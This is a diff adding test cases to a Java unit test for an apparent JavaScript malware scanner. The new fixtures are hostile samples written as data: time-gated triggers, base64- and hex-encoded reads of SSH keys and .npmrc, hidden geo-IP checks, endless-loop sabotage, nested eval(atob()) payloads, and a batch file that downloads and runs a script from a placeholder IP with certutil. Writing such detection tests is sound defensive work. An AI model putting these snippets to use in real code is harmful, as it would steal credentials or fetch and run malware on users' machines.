@@ -138,6 +138,36 @@ class JsFactsTest {
                         List.of("time-gate 1767225600000 < new Date().getTime() @1")),
                 Arguments.of("time gate date", "if (new Date() > new Date('2026-03-01')) run();",
                         List.of("time-gate new Date() > new Date('2026-03-01') @1")),
+                Arguments.of("time gate on a named constant", "const LIMIT = 1767225600000;\nif (Date.now() >= LIMIT) run();",
+                        List.of("time-gate Date.now() >= LIMIT @2")),
+                Arguments.of("time gate on a named date", "var LIMIT = new Date('2026-03-01');\nif (new Date() > LIMIT) run();",
+                        List.of("time-gate new Date() > LIMIT @2")),
+                Arguments.of("time gate on Date.UTC, reversed", "const DEADLINE = Date.UTC(2026, 2, 1);\nif (DEADLINE < Date.now()) boom();",
+                        List.of("time-gate DEADLINE < Date.now() @2")),
+                Arguments.of("time gate on a named year", "const YEAR = 2026;\nif (new Date().getFullYear() === YEAR) go();",
+                        List.of("time-gate new Date().getFullYear() === YEAR @2")),
+                // sensitive strings inside decoded payloads count like plain literals, one level deeper
+                Arguments.of("geo-ip host in atob", "https.get(atob('" + b64("https://ipapi.co/json/") + "'), cb);",
+                        List.of("locale-check geo-ip @1/1")),
+                Arguments.of("ssh key in hex", "const p = Buffer.from('" + hex("/.ssh/id_rsa") + "', 'hex').toString();",
+                        List.of("sensitive-path ssh @1/1")),
+                Arguments.of("npmrc in char codes", "read(home + String.fromCharCode(47,46,110,112,109,114,99));",
+                        List.of("sensitive-path npmrc @1/1")),
+                Arguments.of("npmrc in a short atob", "read(home + atob('" + b64("/.npmrc") + "'));",
+                        List.of("sensitive-path npmrc @1/1")),
+                Arguments.of("geo-ip in a base64 blob", "const s = '" + b64("https://ip-api.com/json/?fields=countryCode") + "';",
+                        List.of("locale-check geo-ip @1/1")),
+                Arguments.of("npmrc in escapes", "read(home + '\\x2f\\x2e\\x6e\\x70\\x6d\\x72\\x63');",
+                        List.of("sensitive-path npmrc @1/1")),
+                Arguments.of("geo-ip inside a decoded script", "eval(atob('" + b64("fetch('https://ipinfo.io/json').then(r => r.json())") + "'));",
+                        List.of("locale-check geo-ip @1/1")),
+                // sabotage
+                Arguments.of("colors infinite loop", "let am = require('../lib/custom/american');\nam();\n"
+                        + "for (let i = 666; i < Infinity; i++) {\n  if (i % 333) {\n  }\n  console.log('testing'.zalgo)\n}",
+                        List.of("endless-loop for (let i = 666; i < Infinity; i++) @3")),
+                Arguments.of("while true on require", "const x = 1;\nwhile (true) { console.log('x'); }", List.of("endless-loop while (true) @2")),
+                Arguments.of("for ever", "for (;;) spin();", List.of("endless-loop for (;;) @1")),
+                Arguments.of("do while true", "do {\n  hog();\n} while (!0);", List.of("endless-loop do … while (!0) @1")),
                 // decoding
                 Arguments.of("hex escapes", "var m = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73';",
                         List.of("encoded-payload escape @1")),
@@ -207,6 +237,19 @@ class JsFactsTest {
                 Arguments.of("BOM at start", "\uFEFFmodule.exports = 1;", List.of()),
                 Arguments.of("BOM check in a string", "if (data.indexOf('\uFEFF') === 0) data = data.slice(1);", List.of()),
                 Arguments.of("escaped non-Latin text", "months: '\\u044f\\u043d\\u0432\\u0430\\u0440\\u044c_\\u0444\\u0435\\u0432'", List.of()),
+                Arguments.of("while true in a function", "function serve() {\n  while (true) { handle(); }\n}", List.of("endless-loop while (true) @2")),
+                Arguments.of("top-level loop with a break", "while (true) {\n  const l = read();\n  if (!l) break;\n}",
+                        List.of("endless-loop while (true) @1")),
+                Arguments.of("top-level loop that exits", "for (;;) { if (done()) process.exit(0); }", List.of("endless-loop for (;;) @1")),
+                Arguments.of("minified loop inside a function", "!function(e){var t;for(;;){t=e.next();e.push(t)}}(x);",
+                        List.of("endless-loop for(;;) @1")),
+                Arguments.of("bounded top-level loops", "for (let i = 0; i < n; i++) go(i);\nwhile (queue.length) queue.pop();\n"
+                        + "for (const k of keys) use(k);\ndo { step(); } while (more());", List.of("endless-loop for (let i = 0; i < n; i++) @1")),
+                Arguments.of("state compared with the time", "let last = 0;\nif (Date.now() > last) flush();", List.of()),
+                Arguments.of("start time compared", "const started = Date.now();\nwhile (Date.now() < started) tick();",
+                        List.of("endless-loop while (Date.now() < started) @2")),
+                Arguments.of("arithmetic on a named date", "const LIMIT = 1767225600000;\nif (Date.now() > LIMIT + grace) go();", List.of()),
+                Arguments.of("timeout constant", "const TIMEOUT = 5000;\nif (Date.now() - start > TIMEOUT) abort();", List.of()),
                 Arguments.of("time arithmetic", "if (last + 500 < Date.now()) flush();", List.of()),
                 Arguments.of("environment for a child", "const env = extendEnv ? {...process.env, ...extra} : extra;", List.of()),
                 Arguments.of("profile option", "const key = '.profile';", List.of()),
@@ -224,6 +267,26 @@ class JsFactsTest {
         }
         assertThat(facts).noneMatch(f -> f.startsWith("unparsable") || f.startsWith("invisible-unicode")
                 || f.startsWith("sensitive-path") || f.startsWith("encoded-payload") || f.startsWith("time-gate"));
+    }
+
+    @Test
+    void theDeepestPayloadIsStillScreened() {
+        JsOptions noDecoding = new JsOptions(List.of(), new JsLimits(0, 240, 2000, 1 << 20, 1 << 20));
+        assertThat(facts("index.js", "https.get(atob('" + b64("https://ipapi.co/json/") + "'), cb);", noDecoding))
+                .contains("encoded-payload base64 @1", "locale-check geo-ip @1/1");
+        String deepest = "read(h + '/.ssh/id_rsa')";
+        for (int level = 0; level < 4; level++) {
+            deepest = "eval(atob('" + b64(deepest) + "'));";
+        }
+        assertThat(facts(deepest)).contains("encoded-payload base64 @1/3", "sensitive-path ssh @1/4");
+    }
+
+    @Test
+    void batchFilesKeepTheirBackslashes() {
+        String bat = "@echo off\r\ncertutil.exe -urlcache -f http://198.51.100.9/sdd.bat %TEMP%\\sdd.bat\r\n"
+                + "cmd /c %TEMP%\\sdd.bat\r\nstart /B .\\jsextension.exe -k\r\n";
+        assertThat(facts("preinstall.bat", bat, JsOptions.defaults())).contains("download http://198.51.100.9/sdd.bat @2",
+                "runs-file %TEMP%/sdd.bat @3", "runs-file jsextension.exe @4");
     }
 
     @Test
